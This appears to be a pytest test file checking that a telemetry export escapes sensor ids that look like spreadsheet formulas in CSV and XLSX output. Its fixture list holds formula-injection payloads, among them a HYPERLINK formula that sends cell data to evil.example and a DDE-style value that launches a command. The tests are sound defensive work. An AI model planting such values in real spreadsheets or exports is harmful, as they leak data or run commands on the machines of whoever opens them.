"""Exports: sensor ids that look like spreadsheet formulas stay text in CSV and XLSX."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from storage.telemetry.export import export_file
from storage.telemetry.ingest import ingest_table, table_from_json
from storage.telemetry.store import TelemetryStore

# Ids stored before sensor ids had to be key-like (reads still reach them).
FORMULA_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
               "+1+2", "-2+3", "\t=1+1", "http://evil.example/x"]
LOW, HIGH = 1_772_409_600_000, 1_772_413_200_000  # 2026-03-02T00:00Z, one hour


@pytest.fixture
def store(tmp_path: Path) -> Iterator[TelemetryStore]:
    opened = TelemetryStore(tmp_path / "telemetry.duckdb", memory_limit_mb=256)
    ingest_table(opened, table_from_json({
        "sensor_id": FORMULA_IDS, "channel": "power",
        "ts": ["2026-03-02T00:10:00Z"] * len(FORMULA_IDS),
        "value": [1.5] * len(FORMULA_IDS)}), authorize=lambda ids: dict.fromkeys(ids, 1),
        max_future_ms=0)
    yield opened
    opened.close()


def _export(store: TelemetryStore, file_format: str) -> bytes:
    path = export_file(store, sensors=dict.fromkeys(FORMULA_IDS, 1), channel=None, low=LOW,
                       high=HIGH, file_format=file_format)
    try:
        return path.read_bytes()
    finally:
        path.unlink()


def test_csv_cells_that_would_start_a_formula_are_prefixed_with_an_apostrophe(
        store: TelemetryStore) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(store, "csv").decode())))
    exported = {row["sensor_id"] for row in rows}
    assert exported == {("'" + sensor_id if sensor_id[0] in "=+-@\t" else sensor_id)
                        for sensor_id in FORMULA_IDS}
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                   for row in rows for cell in (row["sensor_id"], row["channel"], row["ts"]))


def test_xlsx_cells_are_strings_never_formulas_or_links(store: TelemetryStore) -> None:
    with zipfile.ZipFile(io.BytesIO(_export(store, "xlsx"))) as workbook:
        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
        names = workbook.namelist()
        strings = workbook.read("xl/sharedStrings.xml").decode() \
            if "xl/sharedStrings.xml" in names else sheet
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    assert not any("worksheets/_rels" in name for name in names)
    assert "HYPERLINK" in strings and "@SUM(1+1)" in strings
